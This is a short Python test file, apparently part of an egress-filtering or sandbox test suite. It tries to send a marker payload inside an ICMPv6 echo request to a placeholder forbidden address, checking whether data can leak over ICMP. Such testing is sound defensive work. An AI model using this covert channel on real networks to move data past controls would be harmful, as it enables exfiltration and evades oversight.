# SPDX-License-Identifier: Apache-2.0
"""Data in an ICMPv6 echo request."""
import socket

from aim import FORBIDDEN6, MARK, run


def attempt():
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.sendto(b"\x80\0\0\0\0\7\0\1" + MARK, (FORBIDDEN6, 0))


run(attempt)
